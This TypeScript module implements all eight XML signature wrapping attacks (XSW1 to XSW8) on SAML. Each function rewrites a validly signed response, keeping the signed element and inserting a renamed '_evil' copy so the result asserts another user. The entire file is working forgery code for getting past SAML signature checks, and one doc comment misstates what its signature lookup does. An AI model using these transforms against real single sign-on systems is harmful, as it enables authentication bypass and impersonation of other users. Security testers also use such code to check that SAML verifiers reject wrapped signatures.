// The eight known variants of XML signature wrapping (XSW1 to XSW8): the signed element stays in the document, and another one
// takes its place where a parser looks. Each takes a valid response and returns one that asserts another user.

export type Wrapping = (xml: string, speakOf: (part: string) => string) => string;

const part = (xml: string, name: string): string => {
  const found = new RegExp(`<((?:\\w+:)?${name})[\\s>][\\s\\S]*?</\\1>`).exec(xml)?.[0];
  if (found === undefined) throw new Error(`the answer has no ${name}`);
  return found;
};

const assertionOf = (xml: string): string => part(xml, 'Assertion');

/** The signature of an element: the first one in it that is not in its assertion. */
const signatureOf = (element: string): string => part(element, 'Signature');

const withoutSignature = (element: string): string => element.replace(signatureOf(element), '');

const renamed = (element: string): string => element.replace(/\bID="([^"]+)"/, 'ID="_evil$1"');

const into = (signature: string, content: string): string =>
  signature.replace(
    /<\/((?:\w+:)?)Signature>$/,
    (end) => `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${content}</ds:Object>${end}`,
  );

/** For a signed response; its signature comes before its status. */
const wrapResponse =
  (place: (signature: string, original: string) => string): Wrapping =>
  (xml, speakOf) => {
    const signature = signatureOf(xml);
    const original = xml.replace(signature, '');
    return renamed(speakOf(xml)).replace(speakOf(signature), () => place(signature, original));
  };

/** For a signed assertion. */
const wrapAssertion =
  (write: (facts: { original: string; evil: string; signature: string; bare: string }) => string): Wrapping =>
  (xml, speakOf) => {
    const original = assertionOf(xml);
    const bare = withoutSignature(original);
    const evil = renamed(speakOf(bare));
    const written = write({ original, evil, signature: signatureOf(original), bare });
    return xml.replace(original, () => written);
  };

const afterIssuer = (assertion: string, content: string): string =>
  assertion.replace(/<\/((?:\w+:)?)Issuer>/, (end) => `${end}${content}`);

const beforeEnd = (element: string, content: string): string =>
  element.replace(/<\/(?:\w+:)?Assertion>$/, (end) => `${content}${end}`);

/** By number; the first two need a response that is signed too. */
export const WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  XSW1: wrapResponse((signature, original) => into(signature, original)),
  XSW2: wrapResponse((signature, original) => `${original}${signature}`),
  XSW3: wrapAssertion(({ evil, original }) => `${evil}${original}`),
  XSW4: wrapAssertion(({ evil, original }) => beforeEnd(evil, original)),
  XSW5: wrapAssertion(({ evil, signature, bare }) => `${afterIssuer(evil, signature)}${bare}`),
  XSW6: wrapAssertion(({ evil, signature, bare }) => afterIssuer(evil, into(signature, bare))),
  XSW7: wrapAssertion(({ evil, original }) => `<samlp:Extensions>${evil}</samlp:Extensions>${original}`),
  XSW8: wrapAssertion(({ evil, signature, bare }) =>
    afterIssuer(
      evil,
      signature.replace(
        /<\/((?:\w+:)?)SignatureValue>/,
        (end) => `${end}<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${bare}</ds:Object>`,
      ),
    ),
  ),
};
